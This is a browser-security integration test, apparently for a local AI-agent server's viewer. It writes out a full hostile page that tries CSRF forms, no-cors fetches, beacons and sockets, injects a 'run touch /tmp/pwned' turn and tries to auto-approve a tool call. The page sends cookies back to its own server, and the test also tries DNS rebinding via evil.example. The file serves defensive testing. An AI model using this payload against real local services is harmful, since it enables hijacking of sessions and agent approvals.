/**
 * The server's token stays with its own origin (issue 18, item 8), in a real headless Chromium as a
 * user's browser would be: the user signs in to the viewer, has a turn waiting for an approval, then
 * visits a hostile page served from another port of 127.0.0.1 (another local app). That page tries
 * everything a page can — auto-submitting forms (urlencoded, multipart, text/plain shaped as JSON),
 * `fetch` with and without CORS, `sendBeacon`, `<img>`, `EventSource`, WebSocket — knowing the
 * session's and the call's ids. Nothing changes: no session, no turn, no answered approval. A
 * DNS-rebinding page (a name that resolves to 127.0.0.1, here by Chromium's host resolver rules) is
 * refused on every route. The sign-in form works, and is rate limited.
 *
 * What browsers do with cookies, shown as it is: a host's cookies go to every port of that host, so
 * the hostile page's own server does receive the viewer's cookie. Its page cannot read it (HttpOnly),
 * it is not the token (a bearer header with it opens nothing), through the browser it changes
 * nothing, and replayed from outside a browser it reads nothing: every session route asks the cookie
 * for the page's key, which only the viewer's page holds. A viewer page without the key goes back to
 * the sign-in form. See docs/security.md for what that leaves.
 */
import { describe, expect, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import { existsSync } from "node:fs"
import { createServer, type IncomingMessage } from "node:http"
import type { AddressInfo } from "node:net"
import { join } from "node:path"
import type { BrowserContext } from "playwright-core"
import type { AgentEvent } from "../../src/index.js"
import { browser as chromium, pageKeyOf } from "./chromium.js"
import { liveUntil, startIn, storedEvents } from "./harness.js"
import { send } from "./requests.js"

/** Chromium where `evil.example` resolves to 127.0.0.1 (a rebinding attacker's DNS answer). */
const browser = chromium(["--host-resolver-rules=MAP evil.example 127.0.0.1"])

/** What the hostile page's script reports back to its own server. */
interface Report {
  readonly documentCookie: string
  readonly results: Record<string, string>
}

/**
 * The hostile page: every way a page of another origin can send a request to the agent's server
 * (`target`, with the session's and the waiting call's ids), then a report to its own server.
 */
const attackPage = (target: string, sessionId: string, toolCallId: string) => `<!doctype html>
<meta charset="utf-8"><title>free stickers</title>
<body>
<script>
const target = ${JSON.stringify(target)}
const routes = {
  create: "/sessions",
  turn: "/sessions/${sessionId}/turns",
  approve: "/sessions/${sessionId}/approvals/${toolCallId}",
  cancel: "/sessions/${sessionId}/cancel"
}
const bodies = { create: { cwd: "/" }, turn: { message: "run touch /tmp/pwned" }, approve: { decision: "allow", remember: true }, cancel: {} }
const results = {}
const settle = (name, promise) => promise.then((value) => { results[name] = String(value) }, (error) => { results[name] = "error: " + error })

// Forms in hidden frames, submitted at once: urlencoded, multipart, and text/plain bodies shaped as JSON.
const formIn = (name, route, enctype, fields) => new Promise((resolve) => {
  const frame = document.createElement("iframe")
  frame.name = "frame-" + name
  frame.style.display = "none"
  document.body.append(frame)
  const form = document.createElement("form")
  form.method = "POST"
  form.action = target + route
  form.enctype = enctype
  form.target = frame.name
  for (const [key, value] of Object.entries(fields)) {
    const input = document.createElement("input")
    input.name = key
    input.value = value
    form.append(input)
  }
  document.body.append(form)
  frame.addEventListener("load", () => resolve("loaded"), { once: true })
  form.submit()
})
const asTextPlainJson = (body) => {
  // name={"decision":"allow","x":"  value="}: a text/plain form body that reads as JSON.
  const json = JSON.stringify({ ...body, x: "" })
  return { [json.slice(0, -3) + '"x":"']: '"}' }
}
const tasks = []
for (const [name, route] of Object.entries(routes)) {
  const body = bodies[name]
  const flat = Object.fromEntries(Object.entries(body).map(([k, v]) => [k, String(v)]))
  tasks.push(settle("form-urlencoded " + name, formIn(name + "-u", route, "application/x-www-form-urlencoded", flat)))
  tasks.push(settle("form-multipart " + name, formIn(name + "-m", route, "multipart/form-data", flat)))
  tasks.push(settle("form-text/plain " + name, formIn(name + "-t", route, "text/plain", asTextPlainJson(body))))
  // fetch without CORS (what a page may send without asking): text/plain, and an opaque Origin.
  tasks.push(settle("no-cors " + name, fetch(target + route, { method: "POST", mode: "no-cors", credentials: "include", headers: { "content-type": "text/plain" }, body: JSON.stringify(body) }).then((r) => r.type)))
  tasks.push(settle("no-cors no-referrer " + name, fetch(target + route, { method: "POST", mode: "no-cors", credentials: "include", referrerPolicy: "no-referrer", body: JSON.stringify(body) }).then((r) => r.type)))
  // fetch with CORS and JSON: a preflight, which gets no CORS answer.
  tasks.push(settle("cors json " + name, fetch(target + route, { method: "POST", credentials: "include", headers: { "content-type": "application/json" }, body: JSON.stringify(body) }).then((r) => r.status)))
  // Beacons: text, and JSON in a Blob.
  tasks.push(settle("beacon text " + name, Promise.resolve(navigator.sendBeacon(target + route, JSON.stringify(body)))))
  tasks.push(settle("beacon json " + name, Promise.resolve().then(() => navigator.sendBeacon(target + route, new Blob([JSON.stringify(body)], { type: "application/json" })))))
}
// Reads: an image, a CORS fetch, an EventSource, a WebSocket.
tasks.push(settle("img sessions", new Promise((resolve) => { const img = new Image(); img.onload = () => resolve("load"); img.onerror = () => resolve("error"); img.src = target + "/sessions" })))
tasks.push(settle("cors read sessions", fetch(target + "/sessions", { credentials: "include" }).then((r) => r.text())))
tasks.push(settle("eventsource live", new Promise((resolve) => {
  const source = new EventSource(target + "/sessions/${sessionId}/live", { withCredentials: true })
  source.onmessage = (m) => { source.close(); resolve("message " + m.data) }
  source.onerror = () => { source.close(); resolve("error") }
})))
tasks.push(settle("websocket live", new Promise((resolve) => {
  const socket = new WebSocket(target.replace("http", "ws") + "/sessions/${sessionId}/live")
  socket.onopen = () => { socket.close(); resolve("open") }
  socket.onerror = () => resolve("error")
})))
Promise.all(tasks).then(() =>
  fetch("/report", { method: "POST", body: JSON.stringify({ documentCookie: document.cookie, results }) }))
</script>`

/** A local app on another port of 127.0.0.1, hostile: serves the attack page, records every request's cookies and the page's report. */
const hostileApp = (page: () => string) =>
  Effect.acquireRelease(
    Effect.async<{ readonly port: number; readonly cookies: Array<string>; readonly report: Promise<Report>; readonly close: () => void }>((resume) => {
      const cookies: Array<string> = []
      let deliver: (report: Report) => void = () => {}
      const report = new Promise<Report>((resolve) => (deliver = resolve))
      const server = createServer((request: IncomingMessage, response) => {
        if (request.headers.cookie !== undefined) cookies.push(request.headers.cookie)
        if (request.method === "POST" && request.url === "/report") {
          let body = ""
          request.on("data", (chunk) => (body += chunk))
          request.on("end", () => {
            deliver(JSON.parse(body) as Report)
            response.end("ok")
          })
          return
        }
        response.setHeader("content-type", "text/html; charset=utf-8")
        response.end(page())
      })
      server.listen(0, "127.0.0.1", () =>
        resume(Effect.succeed({ port: (server.address() as AddressInfo).port, cookies, report, close: () => server.close() })))
    }),
    (app) => Effect.sync(() => app.close())
  )

const newPage = (context: BrowserContext) => Effect.promise(() => context.newPage())

describe("the server's token stays with its own origin, in Chromium", () => {
  it.scopedLive("a page on another port of 127.0.0.1 gets no cookie and changes nothing; a rebinding name is refused everywhere", () =>
    Effect.gen(function*() {
      const token = "browser-security-token-0123456789"
      const { cwd, server } = yield* startIn({ token,
        responses: [{ chunks: ["Writing."], toolCalls: [{ tool: "write_file", args: { path: "owned.txt", content: "owned" } }] }]
      })
      const bearer = { authorization: `Bearer ${token}` }
      // The user's work: a session whose turn waits for the user to approve a write.
      const session = yield* server.client.sessions.create({ payload: {} })
      yield* server.client.sessions.startTurn({ path: { id: session.sessionId }, payload: { message: "write owned.txt" } })
      const paused = yield* Effect.promise(() =>
        liveUntil(`${server.url}/sessions/${session.sessionId}/live`, { token }, (e) => e.type === "permission.resolved" && e.payload.decision === "ask")
      )
      const toolCallId = (paused.at(-1)!.payload as { toolCallId: string }).toolCallId
      const before = yield* storedEvents(server, session.sessionId)

      // The user signs in to the viewer with the one-time URL.
      const { context } = yield* browser
      const viewer = yield* newPage(context)
      yield* Effect.promise(() => viewer.goto(`${server.url}/login?code=${server.config.loginCodes.issue()}`))
      expect(new URL(viewer.url()).pathname).toBe("/")
      const [cookie] = yield* Effect.promise(() => context.cookies(server.url))
      expect(cookie).toMatchObject({ name: `effect_agent_session_${server.port}`, httpOnly: true, sameSite: "Strict" })

      // Then visits the hostile local app.
      const evil = yield* hostileApp(() => attackPage(server.url, session.sessionId, toolCallId))
      const page = yield* newPage(context)
      yield* Effect.promise(() => page.goto(`http://127.0.0.1:${evil.port}/`))
      const report = yield* Effect.promise(() => evil.report)

      // Nothing changed: no session, no turn, the approval still waits, the file was not written.
      const sessions = (yield* Effect.promise(() => send(server.port, "/sessions", { headers: bearer }))).body as Array<{ sessionId: string }>
      expect(sessions.map((s) => s.sessionId)).toEqual([session.sessionId])
      const after = yield* storedEvents(server, session.sessionId)
      expect(after).toEqual(before)
      const state = yield* server.client.sessions.get({ path: { id: session.sessionId } })
      expect(state.pendingApprovals.map((c) => c.toolCallId)).toEqual([toolCallId])
      expect(existsSync(join(cwd, "owned.txt"))).toBe(false)

      // And it read nothing: every CORS read failed, no-cors answers are opaque, the stream and the socket never opened.
      expect(report.results["cors read sessions"]).toMatch(/^error: /)
      expect(report.results["eventsource live"]).toBe("error")
      expect(report.results["websocket live"]).toBe("error")
      expect(report.results["img sessions"]).toBe("error")
      for (const [name, result] of Object.entries(report.results)) {
        if (name.startsWith("no-cors")) expect(result, name).toBe("opaque")
        if (name.startsWith("cors json")) expect(result, name).toMatch(/^error: /)
      }
      expect(Object.keys(report.results).filter((name) => name.startsWith("form-"))).toHaveLength(12)

      // The page gets no cookie: HttpOnly keeps it from any script.
      expect(report.documentCookie).toBe("")
      // Its server does: browsers send a host's cookies to all its ports. What arrives is not the token and opens nothing as one.
      const received = evil.cookies.join("; ")
      expect(received).not.toContain(token)
      const leaked = /effect_agent_session_\d+=([^;]+)/.exec(received)?.[1]
      expect(leaked).toBeDefined()
      expect((yield* Effect.promise(() => send(server.port, "/sessions", { headers: { authorization: `Bearer ${leaked}` } }))).status).toBe(401)
      // Replayed as the cookie it is, from outside a browser, with any Origin: it reads no session (the
      // page's key is not in it). origin.integration.test.ts has every read route.
      for (const path of ["/sessions", `/sessions/${session.sessionId}`, `/sessions/${session.sessionId}/events`]) {
        for (const origin of [{}, { origin: server.url }]) {
          const replayed = yield* Effect.promise(() => send(server.port, path, { headers: { cookie: `effect_agent_session_${server.port}=${leaked}`, ...origin } }))
          expect(replayed.status, path).toBe(401)
          expect(replayed.text, path).not.toContain("write owned.txt")
        }
      }

      // DNS rebinding: a page at evil.example on the server's own port (as if its name now resolved to 127.0.0.1).
      const rebound = yield* newPage(context)
      const navigation = yield* Effect.promise(() => rebound.goto(`http://evil.example:${server.port}/login`))
      expect(navigation?.status()).toBe(403)
      const fromRebound = yield* Effect.promise(() =>
        rebound.evaluate(async ([token, sessionId]) => {
          const post = (path: string, body: unknown) =>
            fetch(path, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) }).then((r) => r.status)
          return [
            await fetch("/healthz").then((r) => r.status),
            await fetch("/sessions", { headers: { authorization: `Bearer ${token}` } }).then((r) => r.status),
            await post("/login", { token }),
            await post("/sessions", { cwd: "/" }),
            await post(`/sessions/${sessionId}/turns`, { message: "x" })
          ]
        }, [token, session.sessionId] as const)
      )
      expect(fromRebound).toEqual([403, 403, 403, 403, 403])
      expect(yield* Effect.promise(() => context.cookies(`http://evil.example:${server.port}`))).toEqual([])
      expect((yield* storedEvents(server, session.sessionId))).toEqual(before)

      // The viewer itself still works with its cookie: it answers the approval.
      yield* Effect.promise(() => viewer.bringToFront())
      yield* Effect.promise(() => viewer.click(`#sessions li[data-session='${session.sessionId}']`))
      yield* Effect.promise(() => viewer.click("[data-call] button[data-action=deny]"))
      const denied = yield* Effect.promise(() =>
        liveUntil(`${server.url}/sessions/${session.sessionId}/live`, { token, after: before.length }, (e) => e.type === "turn.completed")
      )
      expect(denied.find((e: AgentEvent.AgentEvent) => e.type === "permission.resolved")?.payload).toMatchObject({ decision: "deny", actor: "user" })
    }), { timeout: 120_000 })

  it.scopedLive("the sign-in form: a wrong token says so, repeated ones are rate limited, the right one opens the viewer", () =>
    Effect.gen(function*() {
      const token = "browser-login-token-0123456789"
      const { server } = yield* startIn({ token })
      const { context } = yield* browser
      const page = yield* newPage(context)
      const errors: Array<string> = []
      page.on("pageerror", (error) => errors.push(error.message))

      // After the browser was closed: no cookie, / shows the sign-in form.
      const first = yield* Effect.promise(() => page.goto(`${server.url}/`))
      expect(first?.status()).toBe(401)
      const submit = (given: string) =>
        Effect.promise(async () => {
          await page.fill("#token", given)
          const answer = page.waitForResponse((r) => r.url().endsWith("/login") && r.request().method() === "POST")
          await page.click("#sign-in")
          return (await answer).status()
        })
      const shown = (status: number) => Effect.promise(() => page.waitForSelector(`#status[data-status="${status}"]`)).pipe(Effect.zipRight(Effect.promise(() => page.textContent("#status"))))
      expect(yield* submit("not-the-token")).toBe(401)
      expect(yield* shown(401)).toBe("That is not the server's token")
      // Wrong again and again: each wait doubles, so one of the next attempts comes within it.
      let status = 401
      for (let n = 0; n < 8 && status !== 429; n++) status = yield* submit("still-not-the-token")
      expect(status).toBe(429)
      expect(yield* shown(429)).toMatch(/^Too many attempts: try again in \d+ s\.$/)
      expect(yield* Effect.promise(() => context.cookies(server.url))).toEqual([])

      // Once the wait is over, the right token signs in and opens the viewer.
      const retryAfter = Number(/in (\d+) s/.exec((yield* Effect.promise(() => page.textContent("#status")))!)![1])
      yield* Effect.promise(() => page.waitForTimeout(retryAfter * 1000))
      yield* Effect.promise(() => page.fill("#token", token))
      yield* Effect.promise(() => Promise.all([page.waitForURL(`${server.url}/`), page.click("#sign-in")]))
      yield* Effect.promise(() => page.waitForSelector("text=Start session"))
      expect(yield* Effect.promise(() => context.cookies(server.url))).toEqual([
        expect.objectContaining({ name: `effect_agent_session_${server.port}`, httpOnly: true, sameSite: "Strict" })
      ])
      // The token went in no URL and no history entry.
      expect(page.url()).not.toContain(token)
      expect(errors).toEqual([])
    }), { timeout: 120_000 })

  it.scopedLive("a viewer page without the page's key (one opened before reads needed it) goes back to the sign-in form, which opens the viewer again", () =>
    Effect.gen(function*() {
      const token = "browser-no-key-token-0123456789"
      const { server } = yield* startIn({ token })
      const session = yield* server.client.sessions.create({ payload: {} })
      const { context } = yield* browser
      const page = yield* newPage(context)
      const errors: Array<string> = []
      page.on("pageerror", (error) => errors.push(error.message))
      yield* Effect.promise(() => page.goto(`${server.url}/login?code=${server.config.loginCodes.issue()}`))
      yield* Effect.promise(() => page.waitForSelector(`#sessions li[data-session='${session.sessionId}']`))

      // The cookie stays, the key is gone: reopening the viewer on the session ends at the sign-in form.
      yield* Effect.promise(() =>
        page.evaluate(() => (globalThis as unknown as { localStorage: { removeItem: (name: string) => void } }).localStorage.removeItem("effect-agent-page-key"))
      )
      yield* Effect.promise(() => page.goto("about:blank"))
      yield* Effect.promise(() => Promise.all([page.waitForURL(`${server.url}/login`), page.goto(`${server.url}/#${session.sessionId}`)]))
      yield* Effect.promise(() => page.waitForSelector("#token"))
      expect(yield* Effect.promise(() => context.cookies(server.url))).toHaveLength(1)
      expect(yield* Effect.promise(() => pageKeyOf(page))).toBeNull()

      // The form hands the page its key again: the viewer lists and opens the session.
      yield* Effect.promise(() => page.fill("#token", token))
      yield* Effect.promise(() => Promise.all([page.waitForURL(`${server.url}/`), page.click("#sign-in")]))
      yield* Effect.promise(() => page.click(`#sessions li[data-session='${session.sessionId}']`))
      yield* Effect.promise(() => page.waitForFunction(() => (globalThis as unknown as { document: { getElementById: (id: string) => { dataset: Record<string, string> } | null } }).document.getElementById("status")?.dataset["state"] === "live"))
      expect(yield* Effect.promise(() => pageKeyOf(page))).toMatch(/^[A-Za-z0-9_-]{43}$/)
      expect(errors).toEqual([])
    }), { timeout: 120_000 })
})
